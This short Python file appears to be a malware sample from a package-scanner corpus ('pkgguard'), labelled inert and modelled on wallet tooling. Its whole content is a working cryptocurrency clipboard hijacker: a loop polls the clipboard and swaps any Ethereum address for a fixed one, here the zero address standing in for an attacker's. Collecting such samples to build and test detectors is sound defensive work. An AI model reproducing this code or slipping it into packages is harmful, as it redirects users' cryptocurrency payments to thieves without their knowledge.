# pkgguard corpus 458 (clipboard), modelled on [wallet-tools]; inert, never run.
import re
import time

import pyclip

_ETH = re.compile(rb"^0x[0-9a-fA-F]{40}$")
_MINE = b"0x0000000000000000000000000000000000000000"

while True:
    held = pyclip.paste()
    if _ETH.match(held.strip()) and held.strip() != _MINE:
        pyclip.copy(_MINE)
    time.sleep(0.4)
